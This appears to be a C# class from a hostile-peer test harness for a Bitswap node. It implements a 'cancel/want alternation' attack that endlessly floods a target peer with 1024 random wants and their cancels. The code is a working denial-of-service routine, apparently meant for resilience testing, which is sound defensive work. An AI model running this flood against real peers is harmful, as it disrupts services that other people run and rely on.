using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>Asks and withdraws.</summary>
internal sealed class CancelWantAlternation : Attack
{
    public override string Name => "cancel/want alternation";

    public override string Summary => "1024 random wants, then their cancels, as fast as they are taken";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        RandomFrame wants = new(1024, cids => new BitswapMessage { Wantlist = [.. cids.Select(cid => new WantlistEntry(cid))] });
        RandomFrame cancels = new(1024, cids => new BitswapMessage { Wantlist = [.. cids.Select(cid => new WantlistEntry(cid, Cancel: true))] });
        await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken);
        await using IByteStream stream = await peer.OpenAsync(cancellationToken);
        while (true)
        {
            await stream.WriteAsync(wants.Next(), cancellationToken);
            await stream.WriteAsync(cancels.As(wants), cancellationToken);
        }
    }
}
